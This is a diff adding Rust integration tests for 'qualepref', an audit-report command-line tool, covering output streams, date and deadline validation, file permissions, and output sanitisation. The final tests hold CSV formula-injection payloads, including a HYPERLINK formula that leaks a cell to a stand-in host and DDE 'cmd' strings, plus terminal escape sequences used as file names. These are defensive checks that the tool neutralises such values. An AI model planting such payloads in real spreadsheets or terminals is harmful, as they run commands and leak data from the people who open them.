@@ -842,18 +842,52 @@ fn a_failed_output_file_leaves_the_previous_one() {
     let _ = std::fs::remove_dir_all(&dir);
 }
 
+/// A standard output closed before the command starts (`>&-`) cannot be told apart from
+/// `/dev/null` opened read-write: the Rust runtime opens `/dev/null` read-write in its place
+/// before the program runs. Both are written to, as `/dev/null` is (a read-write `/dev/null` is
+/// what Python's `subprocess.DEVNULL` gives).
+#[cfg(unix)]
 #[test]
-fn a_closed_standard_output_exits_2() {
-    let output = run_sh(r#"exec "$0" "$@" >&-"#, &["render", TOULON]);
-    assert_eq!(code(&output), Some(2));
-    assert_eq!(
-        stderr(&output),
-        "qualepref: cannot write to standard output: it is closed; nothing written (redirect \
-         it, or use -o FILE where the command has it)\n"
-    );
-    // /dev/null is a place to write to.
-    let output = run_sh(r#"exec "$0" "$@" >/dev/null"#, &["render", TOULON]);
-    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+fn dev_null_is_a_place_to_write_to_in_any_mode() {
+    for redirection in [">/dev/null", "1<>/dev/null", ">&-"] {
+        for args in [
+            &["render", TOULON][..],
+            &["validate", TOULON][..],
+            &["render", TOULON, "-o", "/dev/stdout"][..],
+            &["--help"][..],
+            &["--version"][..],
+        ] {
+            let output = run_sh(&format!(r#"exec "$0" "$@" {redirection}"#), args);
+            assert_eq!(
+                code(&output),
+                Some(0),
+                "{redirection} {args:?}: {}",
+                stderr(&output)
+            );
+            assert!(
+                !stderr(&output).contains("standard output"),
+                "{redirection} {args:?}: {}",
+                stderr(&output)
+            );
+        }
+    }
+    // As Python's subprocess.DEVNULL: /dev/null opened read-write, given as standard output.
+    let null = || {
+        ok(std::fs::OpenOptions::new()
+            .read(true)
+            .write(true)
+            .open("/dev/null"))
+    };
+    for args in [&["validate", TOULON][..], &["render", TOULON][..]] {
+        let output = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
+            .args(args)
+            .current_dir(env!("CARGO_MANIFEST_DIR"))
+            .stdin(null())
+            .stdout(null())
+            .stderr(Stdio::piped())
+            .output());
+        assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
+    }
 }
 
 #[test]
@@ -1167,7 +1201,10 @@ fn plan_fails_on_a_bad_date_or_file_and_refuses_an_invalid_audit() {
     let output = run(&["plan", TOULON, "--at", "2020-02-30"], "");
     assert_eq!(code(&output), Some(2));
     assert!(
-        stderr(&output).contains("\"2020-02-30\" is not a date (YYYY-MM-DD or DD/MM/YYYY)"),
+        stderr(&output).contains(
+            "\"2020-02-30\" is not a date: write it YYYY-MM-DD or DD/MM/YYYY with a four-digit \
+             year between 2000 and 2100"
+        ),
         "{}",
         stderr(&output)
     );
@@ -1424,4 +1461,699 @@ fn a_full_standard_output_exits_2_naming_the_cause() {
         "{}",
         stderr(&output)
     );
+}
+
+/// Every date option of every command refuses two-digit and implausible years.
+#[test]
+fn every_date_option_refuses_two_digit_and_implausible_years() {
+    for command in [&["plan", TOULON][..], &["history", HISTORY][..]] {
+        for date in [
+            "30/04/20",
+            "01/01/22",
+            "0000-01-01",
+            "9999-12-31",
+            "+12019-01-01",
+            "31/12/1",
+            "1999-12-31",
+            "2101-01-01",
+            "2020-02-30",
+        ] {
+            let mut args = command.to_vec();
+            args.extend(["--at", date]);
+            let output = run(&args, "");
+            assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
+            assert_eq!(stdout(&output), "", "{args:?}");
+            assert!(
+                stderr(&output).starts_with(&format!(
+                    "error: invalid value '{date}' for '--at <DATE>': \"{date}\" is not a date: \
+                     write it YYYY-MM-DD or DD/MM/YYYY with a four-digit year between 2000 and \
+                     2100\n"
+                )),
+                "{args:?}: {}",
+                stderr(&output)
+            );
+        }
+        for date in [
+            "2020-04-30",
+            "30/04/2020",
+            "1/3/2020",
+            "2000-01-01",
+            "31/12/2100",
+        ] {
+            let mut args = command.to_vec();
+            args.extend(["--at", date]);
+            let output = run(&args, "");
+            assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
+        }
+    }
+}
+
+/// Deadlines are 1 to 120 months, on every command that takes them.
+#[test]
+fn deadlines_are_1_to_120_months() {
+    let dir = temp_dir("deadline-bounds");
+    let mut audit = toulon_with_nc_min_on_17();
+    audit.ecarts[0].grade = qualepref::NcGrade::Major;
+    audit.assessments[16].verdict = Some(qualepref::Verdict::MajorNonconformity);
+    let file = write(&dir, "nc.json", &ok(audit.to_json_string()));
+    for command in [
+        &["synthesize", &file][..],
+        &["render", &file][..],
+        &["plan", &file, "--at", "2020-03-01"][..],
+    ] {
+        for option in [
+            "--deadline-months",
+            "--minor-deadline-months",
+            "--major-deadline-months",
+        ] {
+            for months in ["0", "121", "100000", "4294967295", "+3", "3.5"] {
+                let mut args = command.to_vec();
+                args.extend([option, months]);
+                let output = run(&args, "");
+                assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
+                assert!(
+                    stderr(&output).starts_with(&format!(
+                        "error: invalid value '{months}' for '{option} <MONTHS>': \"{months}\" \
+                         is not a deadline: write a number of months from 1 to 120\n"
+                    )),
+                    "{args:?}: {}",
+                    stderr(&output)
+                );
+            }
+        }
+    }
+    let output = run(
+        &[
+            "synthesize",
+            &file,
+            "--format",
+            "json",
+            "--major-deadline-months",
+            "120",
+        ],
+        "",
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    let value: Value = ok(serde_json::from_str(&stdout(&output)));
+    assert_eq!(value["ecarts"][0]["due"], "2029-11-18");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// Runs the binary with `args`, its standard output `out`, and returns its standard error.
+#[track_caller]
+fn run_to(args: &[&str], out: impl Into<Stdio>) -> Output {
+    ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
+        .args(args)
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .stdin(Stdio::null())
+        .stdout(out)
+        .stderr(Stdio::piped())
+        .output())
+}
+
+/// Runs the binary with `args`, its standard output a pipe whose reader goes away before
+/// reading anything, as `| head -c 0` would.
+#[track_caller]
+fn run_into_a_closed_pipe(args: &[&str]) -> Output {
+    let mut child = ok(Command::new(env!("CARGO_BIN_EXE_qualepref"))
+        .args(args)
+        .current_dir(env!("CARGO_MANIFEST_DIR"))
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn());
+    drop(child.stdout.take());
+    ok(child.wait_with_output())
+}
+
+#[cfg(target_os = "linux")]
+#[track_caller]
+fn dev_full() -> std::fs::File {
+    ok(std::fs::OpenOptions::new().write(true).open("/dev/full"))
+}
+
+/// `-o /dev/stdout` (or `/dev/stderr`) is standard output under another name: a reader that
+/// stops early ends quietly with 0, a full disk is 2 naming standard output, and a file it is
+/// appended to is appended to, not replaced.
+#[cfg(target_os = "linux")]
+#[test]
+fn an_output_to_dev_stdout_follows_the_contract_of_standard_output() {
+    for args in [
+        &["render", TOULON, "--format", "html", "-o", "/dev/stdout"][..],
+        &["grid", "export", TOULON, "-o", "/dev/stdout"][..],
+        &["plan", TOULON, "--at", "2020-03-01", "-o", "/dev/stdout"][..],
+    ] {
+        let output = run_into_a_closed_pipe(args);
+        assert_eq!(stderr(&output), "", "{args:?}");
+        assert_eq!(code(&output), Some(0), "{args:?}");
+        let output = run_to(args, dev_full());
+        assert_eq!(code(&output), Some(2), "{args:?}");
+        assert_eq!(
+            stderr(&output),
+            "qualepref: cannot write to standard output: No space left on device\n",
+            "{args:?}"
+        );
+    }
+    let dir = temp_dir("dev-stdout");
+    let log = dir.join("log.txt");
+    ok(std::fs::write(&log, "previous line\n"));
+    let append = ok(std::fs::OpenOptions::new().append(true).open(&log));
+    let output = run_to(
+        &["render", TOULON, "--format", "text", "-o", "/dev/stdout"],
+        append,
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    let text = ok(std::fs::read_to_string(&log));
+    assert!(text.starts_with("previous line\n"), "{text}");
+    assert!(text.len() > 1000, "{text}");
+    // Standard error under another name is written through it.
+    let output = run_to(
+        &["render", TOULON, "--format", "text", "-o", "/dev/stderr"],
+        Stdio::null(),
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains("Avis favorable"),
+        "{}",
+        stderr(&output)
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// `--help` and `--version` are outputs like any other.
+#[cfg(target_os = "linux")]
+#[test]
+fn help_and_version_follow_the_contract_of_standard_output() {
+    for args in [&["--help"][..], &["--version"][..], &["plan", "--help"][..]] {
+        let output = run_into_a_closed_pipe(args);
+        assert_eq!((code(&output), stderr(&output)), (Some(0), String::new()));
+        let output = run_to(args, dev_full());
+        assert_eq!(code(&output), Some(2), "{args:?}");
+        assert_eq!(
+            stderr(&output),
+            "qualepref: cannot write to standard output: No space left on device\n",
+            "{args:?}"
+        );
+    }
+}
+
+#[cfg(unix)]
+#[track_caller]
+fn mode(path: &Path) -> u32 {
+    use std::os::unix::fs::PermissionsExt as _;
+    ok(std::fs::metadata(path)).permissions().mode() & 0o7777
+}
+
+/// `-o FILE` replaces the file whole and keeps what it is: its permissions, a symbolic link
+/// (written through to its target), and no temporary file left. A hard link is broken: the
+/// other name keeps the previous content.
+#[cfg(unix)]
+#[test]
+fn an_output_file_keeps_its_permissions_and_symbolic_links() {
+    use std::os::unix::fs::{PermissionsExt as _, symlink};
+    let dir = temp_dir("keeps");
+    let report = || {
+        let output = run(&["render", TOULON], "");
+        assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+        stdout(&output)
+    };
+    let expected = report();
+    let render = |out: &Path| {
+        let output = run(&["render", TOULON, "-o", &out.display().to_string()], "");
+        assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    };
+    // A private report stays private; other modes are kept too.
+    for wanted in [0o600, 0o640, 0o604, 0o664] {
+        let path = dir.join(format!("report-{wanted:o}.md"));
+        ok(std::fs::write(&path, "previous\n"));
+        ok(std::fs::set_permissions(
+            &path,
+            std::fs::Permissions::from_mode(wanted),
+        ));
+        render(&path);
+        assert_eq!(mode(&path), wanted, "{wanted:o}");
+        assert_eq!(ok(std::fs::read_to_string(&path)), expected);
+    }
+    // A new file gets the permissions any new file gets here (0666 less the umask).
+    let usual = dir.join("usual.txt");
+    ok(std::fs::write(&usual, ""));
+    let new = dir.join("new.md");
+    render(&new);
+    assert_eq!(mode(&new), mode(&usual));
+
+    // A symbolic link stays one; its target gets the report and keeps its mode.
+    let sub = dir.join("sub");
+    ok(std::fs::create_dir_all(&sub));
+    let target = sub.join("target.md");
+    ok(std::fs::write(&target, "previous\n"));
+    ok(std::fs::set_permissions(
+        &target,
+        std::fs::Permissions::from_mode(0o600),
+    ));
+    let link = dir.join("latest.md");
+    ok(symlink("sub/target.md", &link));
+    let chain = dir.join("chain.md");
+    ok(symlink("latest.md", &chain));
+    render(&chain);
+    assert!(
+        ok(std::fs::symlink_metadata(&link))
+            .file_type()
+            .is_symlink()
+    );
+    assert!(
+        ok(std::fs::symlink_metadata(&chain))
+            .file_type()
+            .is_symlink()
+    );
+    assert_eq!(ok(std::fs::read_link(&link)), Path::new("sub/target.md"));
+    assert_eq!(ok(std::fs::read_to_string(&target)), expected);
+    assert_eq!(mode(&target), 0o600);
+    // A link to a name not yet taken: the file is created where it points.
+    let dangling = dir.join("dangling.md");
+    ok(symlink("sub/created.md", &dangling));
+    render(&dangling);
+    assert!(
+        ok(std::fs::symlink_metadata(&dangling))
+            .file_type()
+            .is_symlink()
+    );
+    assert_eq!(
+        ok(std::fs::read_to_string(sub.join("created.md"))),
+        expected
+    );
+
+    // A hard link: the name given gets the report, the other keeps the previous content.
+    let first = dir.join("first.md");
+    let second = dir.join("second.md");
+    ok(std::fs::write(&first, "previous\n"));
+    ok(std::fs::hard_link(&first, &second));
+    render(&first);
+    assert_eq!(ok(std::fs::read_to_string(&first)), expected);
+    assert_eq!(ok(std::fs::read_to_string(&second)), "previous\n");
+
+    // No temporary file is left behind.
+    for d in [&dir, &sub] {
+        for entry in ok(std::fs::read_dir(d)) {
+            let entry = ok(entry);
+            let file = entry.file_name().to_string_lossy().into_owned();
+            assert!(
+                !file.starts_with(".qualepref"),
+                "{file} left in {}",
+                d.display()
+            );
+        }
+    }
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+#[test]
+fn an_output_that_cannot_be_a_file_is_refused_with_a_reason() {
+    let dir = temp_dir("not-a-file");
+    let sub = dir.join("reports");
+    ok(std::fs::create_dir_all(&sub));
+    let output = run(&["render", TOULON, "-o", &sub.display().to_string()], "");
+    assert_eq!(code(&output), Some(2));
+    assert_eq!(
+        stderr(&output),
+        format!(
+            "qualepref: {}: cannot write: it is a directory; give a file name\n",
+            sub.display()
+        )
+    );
+    let missing = dir.join("no-such-dir").join("report.md");
+    let output = run(
+        &["render", TOULON, "-o", &missing.display().to_string()],
+        "",
+    );
+    assert_eq!(code(&output), Some(2));
+    assert_eq!(
+        stderr(&output),
+        format!(
+            "qualepref: {}: cannot write: the directory {} does not exist\n",
+            missing.display(),
+            dir.join("no-such-dir").display()
+        )
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+const TITLE: &str = "\u{1b}]0;TITLE\u{7}";
+
+/// File names, labels, sheet names and refused values are printed with their control
+/// characters escaped, wherever they appear.
+#[cfg(unix)]
+#[test]
+fn names_never_drive_the_terminal() {
+    let dir = temp_dir("names");
+    let clean = |output: &Output, what: &str| {
+        for (stream, bytes) in [("stdout", &output.stdout), ("stderr", &output.stderr)] {
+            assert!(
+                !bytes.iter().any(|&b| b == 0x1b || b == 0x07),
+                "{what}: {stream}: {}",
+                String::from_utf8_lossy(bytes)
+            );
+        }
+    };
+    // A file that does not exist.
+    let missing = format!("{TITLE}.json");
+    let output = run(&["validate", &missing], "");
+    clean(&output, "missing");
+    assert_eq!(code(&output), Some(2));
+    assert!(
+        stderr(&output).starts_with(&format!(
+            "qualepref: cannot read \"{}.json\": No such file or directory\n",
+            TITLE.escape_default()
+        )),
+        "{}",
+        stderr(&output)
+    );
+    // A file with diagnostics, named on standard output.
+    let mut audit = toulon();
+    audit.modules.retain(|m| m.get() == 1);
+    let invalid = write(&dir, &format!("{TITLE}.json"), &ok(audit.to_json_string()));
+    let output = run(&["validate", &invalid], "");
+    clean(&output, "validate");
+    assert_eq!(code(&output), Some(1));
+    assert!(
+        stdout(&output).contains(&format!("{}.json\": ", TITLE.escape_default())),
+        "{}",
+        stdout(&output)
+    );
+    for command in ["synthesize", "render", "plan"] {
+        let output = run(&[command, &invalid], "");
+        clean(&output, command);
+        assert_eq!(code(&output), Some(1), "{command}");
+    }
+    // The JSON output keeps the name itself, escaped as JSON escapes it.
+    let output = run(&["validate", "--format", "json", &invalid], "");
+    let value: Value = ok(serde_json::from_str(&stdout(&output)));
+    assert_eq!(value[0]["file"], invalid.as_str());
+    // A history labels its audits by file name.
+    let history = dir.join("history");
+    ok(std::fs::create_dir_all(&history));
+    ok(std::fs::copy(TOULON, history.join(format!("{TITLE}.json"))));
+    for format in ["text", "markdown", "html"] {
+        let output = run(
+            &[
+                "history",
+                &history.display().to_string(),
+                "--format",
+                format,
+            ],
+            "",
+        );
+        clean(&output, format);
+        assert_eq!(code(&output), Some(0), "{format}: {}", stderr(&output));
+    }
+    // A name given to -o, in a directory that does not exist.
+    let out = dir.join(TITLE).join("report.md");
+    let output = run(&["render", TOULON, "-o", &out.display().to_string()], "");
+    clean(&output, "-o");
+    assert_eq!(code(&output), Some(2));
+    assert!(
+        stderr(&output).contains(&format!(
+            "{}/report.md\": cannot write: ",
+            TITLE.escape_default()
+        )),
+        "{}",
+        stderr(&output)
+    );
+    // Values clap refuses.
+    for args in [
+        &["render", TOULON, "--format", TITLE][..],
+        &["plan", TOULON, "--at", TITLE][..],
+        &["synthesize", TOULON, "--deadline-months", TITLE][..],
+        &[TITLE][..],
+    ] {
+        let output = run(args, "");
+        clean(&output, "clap");
+        assert_eq!(code(&output), Some(2), "{args:?}");
+        assert!(
+            stderr(&output).contains(&TITLE.escape_default().to_string()),
+            "{args:?}: {}",
+            stderr(&output)
+        );
+    }
+    // A sheet of a grid, named in the reader's diagnostics.
+    let grid = dir.join("grid.xlsx");
+    let output = run(
+        &["grid", "export", TOULON, "-o", &grid.display().to_string()],
+        "",
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    let renamed = dir.join("renamed.xlsx");
+    ok(std::fs::write(
+        &renamed,
+        rename_sheet(&ok(std::fs::read(&grid)), "Conclusion"),
+    ));
+    let output = run(&["grid", "import", &renamed.display().to_string()], "");
+    clean(&output, "grid import");
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    assert!(
+        stderr(&output).contains(&format!("Notes{}!A1: ", TITLE.escape_default())),
+        "{}",
+        stderr(&output)
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// The workbook `xlsx` with its sheet `sheet` renamed `Notes` followed by [`TITLE`].
+#[track_caller]
+fn rename_sheet(xlsx: &[u8], sheet: &str) -> Vec<u8> {
+    use std::io::Read as _;
+    let mut archive = ok(zip::ZipArchive::new(std::io::Cursor::new(xlsx)));
+    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for i in 0..archive.len() {
+        let mut file = ok(archive.by_index(i));
+        let name = file.name().to_owned();
+        let mut bytes = Vec::new();
+        ok(file.read_to_end(&mut bytes));
+        if name == "xl/workbook.xml" {
+            let text = String::from_utf8_lossy(&bytes).replace(
+                &format!("name=\"{sheet}\""),
+                &format!("name=\"Notes{TITLE}\""),
+            );
+            bytes = text.into_bytes();
+        }
+        ok(out.start_file(name, zip::write::SimpleFileOptions::default()));
+        ok(out.write_all(&bytes));
+    }
+    ok(out.finish()).into_inner()
+}
+
+/// Messages name the system's reason as a user reads it, without the error number.
+#[test]
+fn messages_show_no_internals() {
+    let output = run(&["validate", "no-such-audit.json"], "");
+    assert_eq!(
+        stderr(&output).lines().next(),
+        Some("qualepref: cannot read no-such-audit.json: No such file or directory")
+    );
+    for args in [
+        &["--referentiel", "no-such.yaml", "validate", TOULON][..],
+        &["import", "no-such.txt"][..],
+        &["grid", "import", "no-such.xlsx"][..],
+        &["diff", TOULON, "no-such.json"][..],
+        &["history", "no-such"][..],
+        &["render", TOULON, "-o", "/no-such-dir/report.md"][..],
+    ] {
+        let output = run(args, "");
+        assert_eq!(code(&output), Some(2), "{args:?}");
+        let text = stderr(&output);
+        assert!(text.starts_with("qualepref: "), "{args:?}: {text}");
+        assert!(!text.contains("os error"), "{args:?}: {text}");
+        assert!(text.contains("no-such"), "{args:?}: {text}");
+    }
+}
+
+/// Without --format, the extension of -o chooses the format.
+#[test]
+fn the_format_follows_the_extension_of_the_output() {
+    let dir = temp_dir("follows");
+    let plan = plan_audit(&dir);
+    let written = |args: &[&str], name: &str| {
+        let out = dir.join(name).display().to_string();
+        let mut args = args.to_vec();
+        args.extend(["-o", &out]);
+        let output = run(&args, samples::TOULON_2019_REPORT);
+        assert_eq!(code(&output), Some(0), "{args:?}: {}", stderr(&output));
+        assert_eq!(stdout(&output), "", "{args:?}");
+        ok(std::fs::read(&out))
+    };
+    let text = |bytes: Vec<u8>| String::from_utf8_lossy(&bytes).into_owned();
+    let at = ["--at", "2020-03-01"];
+    let csv = text(written(&["plan", &plan, at[0], at[1]], "plan.CSV"));
+    assert!(csv.starts_with("\u{feff}kind;site;audit;"), "{csv}");
+    let json = text(written(&["plan", &plan, at[0], at[1]], "plan-out.json"));
+    assert!(ok(serde_json::from_str::<Value>(&json))["totals"].is_object());
+    let md = text(written(&["plan", &plan, at[0], at[1]], "plan.md"));
+    assert!(
+        md.starts_with("# Plan d'actions correctives au 01/03/2020\n"),
+        "{md}"
+    );
+    let html = text(written(&["render", TOULON], "report.html"));
+    assert!(html.starts_with("<!DOCTYPE html>"), "{html}");
+    let report_text = text(written(&["render", TOULON], "report.txt"));
+    assert!(
+        !report_text.starts_with('#') && !report_text.starts_with('<'),
+        "{report_text}"
+    );
+    let history = text(written(&["history", HISTORY, at[0], at[1]], "history.htm"));
+    assert!(history.starts_with("<!DOCTYPE html>"), "{history}");
+    let yaml = text(written(&["import", "-"], "audit.yml"));
+    assert_eq!(ok(Audit::from_str_in(&yaml, Format::Yaml)), toulon());
+    let toml = text(written(&["import", "-"], "audit.toml"));
+    assert_eq!(ok(Audit::from_str_in(&toml, Format::Toml)), toulon());
+    let grid = text(written(&["grid", "export", TOULON], "grid.csv"));
+    assert!(grid.starts_with('\u{feff}'), "{grid}");
+    assert!(written(&["grid", "export", TOULON], "grid.xlsx").starts_with(b"PK"));
+    assert!(written(&["grid", "new", "--modules", "1"], "blank.xlsx").starts_with(b"PK"));
+    // No extension: --format, or the default.
+    let bare = text(written(&["render", TOULON, "--format", "html"], "report"));
+    assert!(bare.starts_with("<!DOCTYPE html>"), "{bare}");
+    let bare = text(written(&["render", TOULON], "report"));
+    assert!(bare.starts_with("# "), "{bare}");
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// A name whose extension is not the format's is refused, and nothing is written.
+#[test]
+fn an_extension_that_is_not_the_format_s_is_refused() {
+    let dir = temp_dir("mismatch");
+    let plan = plan_audit(&dir);
+    let refused = |args: &[&str], name: &str, message: &str| {
+        let out = dir.join(name).display().to_string();
+        let mut args = args.to_vec();
+        args.extend(["-o", &out]);
+        let output = run(&args, samples::TOULON_2019_REPORT);
+        assert_eq!(code(&output), Some(2), "{args:?}: {}", stderr(&output));
+        assert_eq!(
+            stderr(&output),
+            format!("qualepref: -o {out}: {message}\n"),
+            "{args:?}"
+        );
+        assert!(!dir.join(name).exists(), "{args:?}: {name} written");
+    };
+    refused(
+        &["grid", "new", "--modules", "1"],
+        "grid.csv",
+        "grid new does not write .csv files: name the file .xlsx",
+    );
+    refused(
+        &["grid", "new", "--modules", "1"],
+        "grid.ods",
+        "grid new does not write .ods files: name the file .xlsx",
+    );
+    refused(
+        &["grid", "export", TOULON, "--format", "xlsx"],
+        "grid.csv",
+        "a .csv file is not what --format xlsx writes: name the file .xlsx, or leave --format \
+         out to write csv",
+    );
+    refused(
+        &["grid", "export", TOULON, "--format", "csv"],
+        "grid.ods",
+        "a .ods file is not what --format csv writes: name the file .csv",
+    );
+    refused(
+        &["grid", "export", TOULON],
+        "grid.ods",
+        "grid export does not write .ods files: name the file .xlsx or .csv",
+    );
+    refused(
+        &["render", TOULON],
+        "report.pdf",
+        "render does not write .pdf files: name the file .md, .markdown, .html, .htm, .txt or \
+         .text",
+    );
+    refused(
+        &["render", TOULON, "--format", "html"],
+        "report.md",
+        "a .md file is not what --format html writes: name the file .html or .htm, or leave \
+         --format out to write markdown",
+    );
+    refused(
+        &["plan", &plan, "--format", "csv"],
+        "plan.txt",
+        "a .txt file is not what --format csv writes: name the file .csv, or leave --format \
+         out to write text",
+    );
+    refused(
+        &["history", HISTORY, "--format", "json"],
+        "history.html",
+        "a .html file is not what --format json writes: name the file .json, or leave \
+         --format out to write html",
+    );
+    refused(
+        &["import", "-", "--format", "toml"],
+        "audit.json",
+        "a .json file is not what --format toml writes: name the file .toml, or leave \
+         --format out to write json",
+    );
+    refused(
+        &["grid", "import", "examples/data/toulon-2019.json"],
+        "audit.xlsx",
+        "grid import does not write .xlsx files: name the file .json, .yaml, .yml or .toml",
+    );
+    let _ = std::fs::remove_dir_all(&dir);
+}
+
+/// A plan whose texts start like spreadsheet formulas writes no cell that opens as one.
+#[test]
+fn plan_csv_writes_no_formula() {
+    let dir = temp_dir("plan-formulas");
+    let formulas = [
+        "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Cliquer\")",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "=1+1",
+    ];
+    let mut audit = toulon_with_nc_min_on_17();
+    let fiche = &mut audit.ecarts[0];
+    fiche.finding = formulas[0].to_owned();
+    fiche.requirement = formulas[1].to_owned();
+    fiche.corrective_action = Some(formulas[2].to_owned());
+    fiche.leader = Some(formulas[3].to_owned());
+    let mut extra = fiche.clone();
+    extra.target = qualepref::EcartTarget::Engagement(audit.assessments[17].engagement);
+    extra.finding = formulas[4].to_owned();
+    extra.corrective_action = Some(formulas[5].to_owned());
+    extra.leader = Some(formulas[6].to_owned());
+    audit.assessments[17].verdict = Some(qualepref::Verdict::MinorNonconformity);
+    audit.ecarts.push(extra);
+    let file = write(&dir, "formulas.json", &ok(audit.to_json_string()));
+    let output = run(
+        &["plan", &file, "--at", "2020-03-01", "--format", "csv"],
+        "",
+    );
+    assert_eq!(code(&output), Some(0), "{}", stderr(&output));
+    let csv = stdout(&output);
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .has_headers(true)
+        .from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(ok(record).iter().map(str::to_owned));
+    }
+    assert!(cells.len() > 40, "{csv}");
+    for cell in &cells {
+        // A number (days left: -12) opens as a number.
+        if cell.parse::<i64>().is_err() {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a cell opens as a formula: {cell:?}\n{csv}"
+            );
+        }
+    }
+    for formula in formulas {
+        assert!(
+            cells.contains(&format!("'{formula}")),
+            "{formula:?} not written neutralised:\n{csv}"
+        );
+    }
+    let _ = std::fs::remove_dir_all(&dir);
 }
